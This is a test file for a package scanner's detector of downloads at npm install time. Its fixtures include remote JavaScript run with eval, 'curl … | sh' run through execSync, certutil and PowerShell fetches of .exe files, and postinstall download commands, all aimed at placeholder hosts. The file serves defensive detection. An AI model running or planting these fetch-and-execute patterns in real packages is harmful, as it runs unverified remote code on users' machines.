import { describe, expect, it } from 'vitest';
import { analyzePackage } from '../../../src/analysis/analyze-package.js';
import { DETECTORS } from '../../../src/analysis/detectors/index.js';
import { commandLineDownloads, installTimeDownload } from '../../../src/analysis/detectors/install-time-download.js';
import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';

const FS = "const fs = require('fs');";
const HTTPS = "const https = require('https');";
const CP = "const cp = require('child_process');";

const CASES: DetectorCase[] = [
  {
    name: 'https.get piped into a file (the prebuilt-binary dropper shape)',
    code: `${FS}${HTTPS}https.get('https://dl.example/v1.2.3/tool-linux-x64', (res) => res.pipe(fs.createWriteStream('bin/tool')));`,
    expect: [{ severity: 'high', messageIncludes: 'Downloads https://dl.example/v1.2.3/tool-linux-x64 with https.get' }],
    twin: { code: `${FS}${HTTPS}https.get('https://dl.example/v1.2.3/status', (res) => res.on('data', (d) => console.log(String(d))));` },
    codeKind: 'install',
  },
  {
    name: 'fetch of a URL built at run time, the body written to disk',
    code: `${FS}const url = 'https://dl.example/' + process.platform + '/tool';fetch(url).then((r) => r.arrayBuffer()).then((b) => fs.writeFileSync('tool', Buffer.from(b)));`,
    expect: [{ messageIncludes: "a URL built by `'https://dl.example/' + process.platform + '/tool'`" }],
    twin: { code: `const url = 'https://dl.example/' + process.platform + '/ping';fetch(url).then((r) => r.json()).then((j) => console.log(j.ok));` },
    codeKind: 'install',
  },
  {
    name: 'an async download: awaited fetch and a write in the same function',
    code: `${FS}async function download(dest) { const res = await fetch('https://dl.example/tool.tgz'); fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer())); }`,
    expect: [{ messageIncludes: 'writes it to a file (fs.writeFileSync)' }],
    twin: {
      code: `${FS}async function list() { const res = await fetch('https://api.example/items'); return res.json(); }\nfunction save(items) { fs.writeFileSync('cache.json', JSON.stringify(items)); }`,
    },
    codeKind: 'install',
  },
  {
    name: 'fetched text run with eval',
    code: "fetch('https://cdn.example/payload.js').then((r) => r.text()).then((code) => eval(code));",
    expect: [{ messageIncludes: 'runs code (eval)' }],
    twin: { code: "fetch('https://cdn.example/config.json').then((r) => r.text()).then((text) => JSON.parse(text));" },
    codeKind: 'install',
  },
  {
    name: 'curl piped into a shell through execSync',
    code: `${CP}cp.execSync('curl -fsSL https://get.example/install.sh | sh');`,
    expect: [{ messageIncludes: 'Runs `curl` through child_process.execSync in install-time code, downloading https://get.example/install.sh' }],
    twin: { code: `${CP}cp.execSync('node-gyp rebuild');` },
    codeKind: 'install',
  },
  {
    name: 'wget through spawn with its arguments in an array',
    code: `${CP}cp.spawnSync('wget', ['-O', 'bin/tool', 'https://dl.example/tool']);`,
    expect: [{ messageIncludes: 'downloading https://dl.example/tool' }],
    twin: { code: `${CP}cp.spawnSync('tar', ['xzf', 'vendor/tool.tgz']);` },
    codeKind: 'install',
  },
];

runDetectorCases(installTimeDownload, CASES);

describe('install-time-download', () => {
  it('is quiet in entry code: a client downloads as its job', () => {
    const code = `${FS}${HTTPS}https.get('https://dl.example/tool', (res) => res.pipe(fs.createWriteStream('tool')));`;
    expect(findingsFor(installTimeDownload, code, 'entry')).toEqual([]);
    expect(findingsFor(installTimeDownload, code, 'install')).toHaveLength(1);
  });

  it('keeps one identity per host, so a new version number in the URL is not a new finding', () => {
    const at = (version: string): string[] =>
      findingsFor(installTimeDownload, `${FS}${HTTPS}https.get('https://dl.example/v${version}/tool', (r) => r.pipe(fs.createWriteStream('t')));`, 'install').map((f) => f.identity);
    expect(at('1.0.0')).toEqual(at('2.0.0'));
    expect(at('1.0.0')).toEqual(['install-time-download|js|dl.example|writes-files']);
  });
});

describe('commandLineDownloads', () => {
  it.each([
    ['curl -fsSL https://get.example/install.sh | sh', [{ tool: 'curl', url: 'https://get.example/install.sh' }]],
    ['wget -q "$BASE/tool-$VERSION" -O bin/tool', [{ tool: 'wget', url: '$BASE/tool-$VERSION' }]],
    ['sh -c "curl -o a https://a.example/a"', [{ tool: 'curl', url: 'https://a.example/a' }]],
    ['node install.js && echo $(curl -s https://b.example/c)', [{ tool: 'curl', url: 'https://b.example/c' }]],
    ['powershell -Command "Invoke-WebRequest https://c.example/x.exe -OutFile x.exe"', [{ tool: 'Invoke-WebRequest', url: 'https://c.example/x.exe' }]],
    ['certutil -urlcache -f https://d.example/x.exe x.exe', [{ tool: 'certutil', url: 'https://d.example/x.exe' }]],
    ['FOO=1 /usr/bin/curl https://e.example/y', [{ tool: 'curl', url: 'https://e.example/y' }]],
  ])('finds the download in %s', (line, expected) => {
    expect(commandLineDownloads(line).map(({ tool, url }) => ({ tool, url }))).toEqual(expected);
  });

  it.each([
    'node-gyp rebuild',
    'echo "curl https://x.example is how you would do it"',
    'certutil -hashfile bin/tool SHA256',
    'node scripts/curl-wrapper.js',
    'powershell -File scripts/setup.ps1',
  ])('finds none in %s', (line) => {
    expect(commandLineDownloads(line)).toEqual([]);
  });
});

describe('install scripts in package.json', () => {
  const pkg = (scripts: Record<string, string>) => ({
    files: [{ path: 'package.json', content: Buffer.from(JSON.stringify({ name: 'p', scripts }, null, 2)) }],
    integrity: null,
    notes: [],
  });

  it('reports a download in the postinstall command line at its line in package.json', () => {
    const result = analyzePackage(pkg({ test: 'vitest', postinstall: 'curl -sL https://dl.example/v3/tool -o bin/tool && chmod +x bin/tool' }), DETECTORS);
    const findings = result.findings.filter((finding) => finding.ruleId === 'install-time-download');
    expect(findings).toMatchObject([
      {
        file: 'package.json',
        line: 5,
        severity: 'high',
        message: 'The postinstall script runs `curl`, downloading https://dl.example/v3/tool on every install.',
        evidence: { codeKind: 'install', details: { installScript: 'postinstall', tool: 'curl', url: 'https://dl.example/v3/tool' } },
        identity: 'install-time-download|command|curl|dl.example',
      },
    ]);
  });

  it('follows `npm run <script>` from an install script and reports the download in the script it reaches', () => {
    const result = analyzePackage(pkg({ postinstall: 'npm run fetch-binary', 'fetch-binary': 'wget -q https://dl.example/v3/tool -O bin/tool' }), DETECTORS);
    expect(result.findings.filter((finding) => finding.ruleId === 'install-time-download')).toMatchObject([
      {
        file: 'package.json',
        line: 5,
        message: 'The postinstall script runs `wget` through `npm run fetch-binary`, downloading https://dl.example/v3/tool on every install.',
        evidence: { details: { installScript: 'postinstall', tool: 'wget', url: 'https://dl.example/v3/tool', via: 'scripts.fetch-binary' } },
        identity: 'install-time-download|command|wget|dl.example',
      },
    ]);
  });

  it('follows an install script into the shell script it runs (through npm run, too), at the line of the download there', () => {
    const files = {
      files: [
        { path: 'package.json', content: Buffer.from(JSON.stringify({ name: 'p', scripts: { install: 'yarn run setup', setup: 'sh ./scripts/get.sh' } })) },
        { path: 'scripts/get.sh', content: Buffer.from('#!/bin/sh\nset -e\nmkdir -p bin\ncurl -fsSL "https://dl.example/tool-$(uname -m)" -o bin/tool\n') },
      ],
      integrity: null,
      notes: [],
    };
    const findings = analyzePackage(files, DETECTORS).findings.filter((finding) => finding.ruleId === 'install-time-download');
    expect(findings).toMatchObject([
      {
        file: 'scripts/get.sh',
        line: 4,
        message: 'The install script runs `curl` through scripts/get.sh, downloading https://dl.example/tool-$(uname -m) on every install.',
        evidence: { details: { installScript: 'install', tool: 'curl', via: 'scripts/get.sh' } },
        identity: 'install-time-download|command|curl|dl.example',
      },
    ]);
  });

  it('is quiet for a script with a download that no install script runs, even when another script runs it', () => {
    const result = analyzePackage(pkg({ postinstall: 'node-gyp rebuild', release: 'npm run upload', upload: 'curl -T dist.tgz https://uploads.example/' }), DETECTORS);
    expect(result.findings.filter((finding) => finding.ruleId === 'install-time-download')).toEqual([]);
  });

  it('is quiet for scripts that only build, and for downloads in scripts that do not run on install', () => {
    const result = analyzePackage(pkg({ postinstall: 'node-gyp rebuild', prepublishOnly: 'curl -o x https://dl.example/x' }), DETECTORS);
    expect(result.findings.filter((finding) => finding.ruleId === 'install-time-download')).toEqual([]);
  });
});

describe('install-time-download: listed, one step lower', () => {
  const DOWNLOAD = `${FS} ${HTTPS}\nhttps.get('https://dl.example/tool-1.2.3.tgz', (res) => res.pipe(fs.createWriteStream('tool.tgz')));`;
  const pkg = (files: Record<string, string>) => ({
    files: Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) })),
    integrity: null,
    notes: [],
  });
  const downloads = (files: Record<string, string>) =>
    analyzePackage(pkg(files), DETECTORS).findings.filter((finding) => finding.ruleId === 'install-time-download');

  it('high in the file the install script runs', () => {
    const found = downloads({ 'package.json': JSON.stringify({ name: 'p', scripts: { postinstall: 'node install.js' } }), 'install.js': DOWNLOAD });
    expect(found.map((f) => f.severity)).toEqual(['high']);
  });

  it('medium when the file checks a digest (a pinned binary)', () => {
    const verified = `${DOWNLOAD}\nconst sum = require('crypto').createHash('sha256').update(fs.readFileSync('tool.tgz')).digest('hex');\nif (sum !== 'ab'.repeat(32)) throw new Error('checksum');`;
    const found = downloads({ 'package.json': JSON.stringify({ name: 'p', scripts: { postinstall: 'node install.js' } }), 'install.js': verified });
    expect(found.map((f) => [f.severity, f.message.includes('checks a digest')])).toEqual([['medium', true]]);
  });

  it('medium in a file the install script only imports', () => {
    const found = downloads({
      'package.json': JSON.stringify({ name: 'p', scripts: { postinstall: 'node install.js' } }),
      'install.js': "require('./lib/fetcher.js');",
      'lib/fetcher.js': DOWNLOAD,
    });
    expect(found.map((f) => [f.severity, f.file, f.message.includes('only imported at install time (from install.js)')])).toEqual([['medium', 'lib/fetcher.js', true]]);
  });
});
